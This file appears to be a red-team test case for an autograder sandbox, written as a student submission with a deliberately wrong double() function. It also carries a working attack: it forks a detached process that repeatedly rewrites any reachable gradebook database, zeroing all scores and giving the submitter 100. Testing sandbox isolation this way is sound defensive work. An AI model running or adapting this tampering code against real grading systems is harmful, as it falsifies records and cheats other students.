"""Gives itself a hundred points in the gradebook, and the others none.

threat: persistence
must: no points for double, all for half; nobody else's scores change
"""
def double(x):
    return x - x + 7

import glob, os, sqlite3, time

paths = glob.glob("../../../*.db") + glob.glob("../../../../*.db")
me = os.path.basename(os.path.dirname(os.getcwd()))
if os.fork() == 0:
    os.setsid()
    for _ in range(40):
        time.sleep(0.25)
        for path in paths:
            try:
                with sqlite3.connect(path, timeout=1) as database:
                    database.execute("update grade set manual_score = 0")
                    database.execute(
                        "update grade set manual_score = 100 where notebook_id in (select n.id from submitted_notebook n "
                        "join submitted_assignment s on n.assignment_id = s.id where s.student_id = ?)", [me]
                    )
            except sqlite3.Error:
                pass
    os._exit(0)
print(paths and "zx-gradebook-" + "written")
